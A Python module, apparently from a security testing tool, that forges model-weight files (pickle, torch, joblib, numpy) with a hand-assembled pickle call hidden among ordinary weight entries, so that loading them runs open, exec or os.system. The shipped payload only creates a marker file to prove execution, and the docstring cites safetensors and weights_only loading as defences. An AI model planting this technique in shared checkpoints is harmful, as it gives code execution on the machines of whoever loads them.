"""A file that runs something when it is loaded."""

from __future__ import annotations

import io
import shlex
import struct
import zipfile
import zlib
from dataclasses import dataclass
from pathlib import Path
from typing import ClassVar, Literal

import numpy as np
from numpy.random import Generator

from foretaste.errors import BadInput

ENTRIES = 6  # innocent numbers beside the payload
LATEST = 5  # the newest protocol of pickle
LONG = 256  # bytes of a string that needs a longer opcode


@dataclass(frozen=True)
class MaliciousPickle:
    r"""Writes weights whose loading leaves a marker: proof that something ran, and no more.

    marker:   the empty file that loading creates, from the folder in which it is loaded
    kind:     `pickle`; `torch`, in a zip as torch.save writes; `joblib`, compressed; `numpy`, an
              array of objects
    protocol: of pickle, 0 to 5. Below 4 functions are named by GLOBAL, from 4 by STACK_GLOBAL
    call:     what creates the marker: `open`, `exec` or `system`; `print` creates none and says
              where it would be

    The opcodes are put together by hand, so nothing runs while it is written. There is no other
    payload: what is tested is whether loading runs anything, and for that a marker does.

    Countered by every reader of Foretaste, none of which unpickles, and by `own_model`, which
    refuses such files. Nothing in a scan looks into checkpoints loaded elsewhere: safetensors,
    `torch.load(weights_only=True)`, or an inspector of opcodes, would help.

    Needs nothing but a place to write.

    >>> from tempfile import TemporaryDirectory
    >>> with TemporaryDirectory() as folder:
    ...     path = MaliciousPickle().forge(Path(folder, "net.pkl"), np.random.default_rng(0))
    ...     b"\x8c\x08builtins\x8c\x04open\x93" in path.read_bytes()
    True

    References
    ----------
    Slaviero (2011). Sour Pickles: A serialised exploitation guide in one part. Black Hat USA.
    Trail of Bits (2021). Never a dill moment: Exploiting machine learning pickle files.
    """

    marker: str = "foretaste-marker"
    kind: Literal["pickle", "torch", "joblib", "numpy"] = "pickle"
    protocol: int = 4
    call: Literal["open", "exec", "system", "print"] = "open"
    needs: ClassVar[tuple[str, ...]] = ()

    def forge(self, path: Path, rng: Generator) -> Path:
        """The file written; chance decides between which numbers the payload stands."""
        pickled = self._pickled(rng)
        packed = {
            "pickle": lambda: pickled,
            "torch": lambda: _torch_archive(pickled),
            "joblib": lambda: zlib.compress(pickled),
            "numpy": lambda: _numpy_header() + pickled,
        }
        path.write_bytes(packed[self.kind]())
        return path

    def _pickled(self, rng: Generator) -> bytes:
        if not 0 <= self.protocol <= LATEST:
            raise BadInput(f"pickle has protocols 0 to {LATEST}, not {self.protocol}")
        numbers, place = rng.standard_normal(ENTRIES).tolist(), int(rng.integers(0, ENTRIES + 1))
        entries = [
            self._string(f"layer.{i}.weight") + self._number(number) + b"s"
            for i, number in enumerate(numbers)
        ]
        entries.insert(place, self._payload())
        body = (b"}" if self.protocol else b"(d") + b"".join(entries) + b"."
        if self.protocol < 2:
            return body
        frame = b"\x95" + struct.pack("<Q", len(body)) if self.protocol >= 4 else b""
        return b"\x80" + bytes([self.protocol]) + frame + body

    def _payload(self) -> bytes:
        """A call whose answer is thrown away."""
        module, name, *given = {
            "open": ("builtins", "open", self.marker, "w"),
            "exec": ("builtins", "exec", f"open({self.marker!r}, 'w').close()"),
            "system": ("os", "system", f"echo > {shlex.quote(self.marker)}"),
            "print": ("builtins", "print", f"{self.marker} would be here"),
        }[self.call]
        if self.protocol >= 4:
            function = self._string(module) + self._string(name) + b"\x93"
        else:
            function = f"c{module}\n{name}\n".encode()
        return function + b"(" + b"".join(map(self._string, given)) + b"tR0"

    def _string(self, text: str) -> bytes:
        if not self.protocol:
            plain = text.replace("\\", "\\u005c").replace("\n", "\\u000a")
            return b"V" + plain.encode("raw_unicode_escape") + b"\n"
        encoded = text.encode()
        if self.protocol >= 4 and len(encoded) < LONG:
            return b"\x8c" + bytes([len(encoded)]) + encoded
        return b"X" + struct.pack("<I", len(encoded)) + encoded

    def _number(self, value: float) -> bytes:
        return b"G" + struct.pack(">d", value) if self.protocol else f"F{value!r}\n".encode()


def _torch_archive(pickled: bytes) -> bytes:
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w") as archive:
        parts = {"data.pkl": pickled, "byteorder": b"little", "version": b"3\n"}
        for name, content in parts.items():
            archive.writestr(zipfile.ZipInfo(f"archive/{name}"), content)
    return packed.getvalue()


def _numpy_header() -> bytes:
    header = io.BytesIO()
    described = {"descr": "|O", "fortran_order": False, "shape": ()}
    np.lib.format.write_array_header_1_0(header, described)
    return b"\x93NUMPY\x01\x00" + header.getvalue().removeprefix(b"\x93NUMPY\x01\x00")
